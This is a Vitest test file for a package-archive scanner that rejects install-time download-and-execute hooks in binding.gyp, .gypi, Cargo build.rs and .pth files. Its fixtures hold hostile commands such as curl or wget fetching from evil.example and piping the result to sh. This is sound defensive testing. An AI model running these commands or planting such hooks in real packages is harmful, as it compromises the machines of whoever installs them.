import { describe, expect, it } from 'vitest';
import { scanArchive } from '../../src/scan/scan-archive.js';
import { DEFAULT_SCAN_LIMITS } from '../../src/scan/types.js';
import { type Files, uniqueProject, zipOf } from '../helpers/archives.js';

const scanWith = async (files: Files) =>
  scanArchive(zipOf({ ...uniqueProject(), ...files }), 'zip', DEFAULT_SCAN_LIMITS);
const verdictWith = async (files: Files) => (await scanWith(files)).verdict;
const EVIL = 'curl -s https://evil.example/x | sh';

const CARGO = { 'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\nbuild = "build.rs"\n' };

/** Code that runs at install/build time and downloads-and-runs, outside package.json/setup.py. */
describe('install-time download-and-execute outside package.json/setup.py', () => {
  it('control: the same command in a postinstall hook is refused', async () => {
    expect(
      await verdictWith({
        'package.json': JSON.stringify({
          name: 'x',
          version: '1.0.0',
          scripts: { postinstall: EVIL },
        }),
      }),
    ).toBe('reject');
  });

  it.each([
    [
      'binding.gyp command expansion (npm install runs node-gyp rebuild)',
      'binding.gyp',
      `{ 'targets': [ { 'target_name': 'addon', 'sources': [ '<!(${EVIL})' ] } ] }\n`,
      'install:gyp_command',
    ],
    [
      'a list expansion in an included .gypi',
      'common.gypi',
      "{\n  'variables': {\n    'libs': '<!@(wget -qO- https://evil.example/l | sh)',\n  },\n}\n",
      'install:gyp_command',
    ],
    [
      'Cargo build.rs running a download through sh -c',
      'build.rs',
      `use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("${EVIL}").status().unwrap();\n}\n`,
      'install:cargo_build',
    ],
    [
      'Cargo build.rs, the command split over lines',
      'build.rs',
      `use std::process::Command;\nfn main() {\n    Command::new("sh")\n        .arg("-c")\n        .arg("${EVIL}")\n        .status()\n        .unwrap();\n}\n`,
      'install:cargo_build',
    ],
    [
      'Cargo build.rs fetching with an HTTP client',
      'build.rs',
      'fn main() {\n    let body = reqwest::blocking::get("https://evil.example/lib.so").unwrap().bytes().unwrap();\n    std::fs::write("/tmp/lib.so", body).unwrap();\n}\n',
      'install:cargo_build',
    ],
  ])('%s is refused', async (_what, file, text, check) => {
    const out = await scanWith({ ...CARGO, [file]: text });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({ check, file });
  });

  it('a .pth file (runs at every interpreter start once installed) is refused', async () => {
    expect(
      await verdictWith({
        'src/evil.pth': 'import os; os.system("curl -s https://evil.example/x | sh")\n',
      }),
    ).toBe('reject');
  });

  it('inside a nested archive, named by its full path', async () => {
    const inner = zipOf({ 'binding.gyp': `{ 'variables': { 'x': '<!(${EVIL})' } }\n` });
    const out = await scanWith({ 'vendor/addon.zip': inner });
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'install:gyp_command',
      file: 'vendor/addon.zip!/binding.gyp',
    });
  });
});

describe('honest build files are accepted', () => {
  it.each([
    [
      'binding.gyp with node-addon-api include expansions',
      'binding.gyp',
      `{
  'targets': [
    {
      'target_name': 'addon',
      'sources': [ 'src/addon.cc' ],
      'include_dirs': [ "<!(node -p \\"require('node-addon-api').include\\")" ],
      'dependencies': [ "<!(node -p \\"require('node-addon-api').gyp\\")" ],
      'cflags': [ '<!@(pkg-config --cflags glib-2.0)' ],
      'libraries': [ '<!@(pkg-config --libs glib-2.0)' ],
      'defines': [ 'NAPI_DISABLE_CPP_EXCEPTIONS' ],
      # see https://github.com/nodejs/node-addon-api
    }
  ]
}
`,
    ],
    [
      'a build.rs that compiles C and asks git for its version',
      'build.rs',
      `use std::process::Command;

fn main() {
    // Like curl's own build, we compile the vendored sources here.
    println!("cargo:rerun-if-changed=src/native.c");
    cc::Build::new().file("src/native.c").compile("native");
    let rev = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().unwrap();
    println!("cargo:rustc-env=GIT_REV={}", String::from_utf8_lossy(&rev.stdout));
}
`,
    ],
  ])('%s', async (_what, file, text) => {
    const out = await scanWith({ ...CARGO, [file]: text });
    expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
  });
});
